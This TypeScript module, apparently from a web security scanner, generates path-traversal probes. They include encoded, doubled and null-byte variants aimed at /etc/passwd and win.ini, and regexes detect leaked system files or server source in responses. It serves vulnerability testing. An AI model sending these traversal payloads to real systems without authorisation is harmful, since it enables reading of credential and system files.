import type { Prober, Strength } from '../check.js';
import type { InputPlace } from '../exchange.js';
import { hasTechnology } from './prove.js';

/** Lines of files that every system of the kind has: passwd(5), and the sections of Windows' win.ini. */
const knownFiles: readonly RegExp[] = [
  /\broot:[x*!]?:0:[\w,]{0,80}\n[\w.-]{1,32}:[x*!]?:\d{1,6}:/,
  /\broot:[^:\s]{0,40}:0:0:[^:\n]{0,80}:[^:\n]{0,80}:\/[^\s<]{1,60}/,
  /; for 16-bit app support\s{1,4}\[fonts\]/i,
];

/** The line that shows it (passwd(5), or the first two of group(5)), without the password field. */
export function knownFileIn(text: string): string | undefined {
  for (const pattern of knownFiles) {
    const match = pattern.exec(text);
    if (match !== null) return match[0].replace(/^root:[^:]*:/, 'root:…:').replace(/\s+/g, ' ');
  }
  return undefined;
}

const up = '../'.repeat(12);

/** Paths to such files in the spellings that checks forget, the most common first. */
export function traversals({ name, value }: InputPlace, prober: Prober, isPath: boolean): readonly string[] {
  const folder = value.slice(0, value.lastIndexOf('/') + 1);
  const suffix = /\.\w{1,5}$/.exec(value)?.[0] ?? '';
  const windows = [`${'..\\'.repeat(12)}Windows\\win.ini`, 'C:\\Windows\\win.ini'];
  const isWindows = hasTechnology(prober, /windows|iis|aspnet/) === true;
  const posix = [
    `${up}etc/passwd`,
    '/etc/passwd',
    ...(folder === '' ? [] : [`${folder}${up}etc/passwd`]),
    `${'....//'.repeat(12)}etc/passwd`,
    `${up}etc/passwd\0${suffix || '.txt'}`,
    `/${up}etc/passwd`,
    '%2e%2e%2f'.repeat(12).concat('etc/passwd'),
    encodeURIComponent(`${up}etc/passwd`),
    `${up}etc/group`,
    'file:///etc/passwd',
    `${'..%2f'.repeat(12)}etc/passwd`,
    `${'..\\/'.repeat(12)}etc/passwd`,
    `${'.././'.repeat(12)}etc/passwd`,
    `${'..%c0%af'.repeat(12)}etc/passwd`,
    `${value}/${up}etc/passwd`,
    `${up}proc/self/root/etc/passwd`,
  ];
  const all = isWindows ? [...windows, ...posix] : [...posix, ...windows];
  const isFile =
    /file|path|page|doc|template|include|dir|folder|load/i.test(name) || suffix !== '' || folder !== '';
  const usual = isPath ? 16 : isFile ? 5 : 2;
  const counts: Readonly<Record<Strength, number>> = { low: 2, medium: usual, high: 15, insane: 20 };
  return all.slice(0, counts[prober.strength]);
}

/** Name or value of the place suggest a file. */
export function looksLikeFile({ name, value }: InputPlace): boolean {
  return (
    /file|path|page|doc|template|include|dir|folder|load|read|image|img|view|name|lang|theme/i.test(name) ||
    /^[\w./\\-]{1,120}\.\w{1,5}$/.test(value)
  );
}

const sources: readonly RegExp[] = [
  /^(?:import|from) \w[^\n]{0,120}\n(?:[^\n]{0,200}\n){0,30}?(?:def \w|@\w|app = )/m,
  /<\?php\s[^<]{0,200}[;{]/,
  /^\s{0,9}\{\s{0,9}"name"\s{0,9}:\s{0,9}"[\w@/.-]{1,214}",[\s\S]{0,3000}?"(?:dependencies|scripts|main)"\s*:/,
  /<web-app\b[^>]{0,400}>[\s\S]{0,4000}?<servlet(?:-mapping)?>/,
  /^(?:PD9waHA|PD9QSFA)[A-Za-z0-9+/=]{16}/m,
];

/** The beginning of source code of a server's language. */
export function sourceIn(text: string): string | undefined {
  for (const pattern of sources) {
    const match = pattern.exec(text);
    if (match !== null) return match[0].replace(/\s+/g, ' ').slice(0, 100);
  }
  return undefined;
}
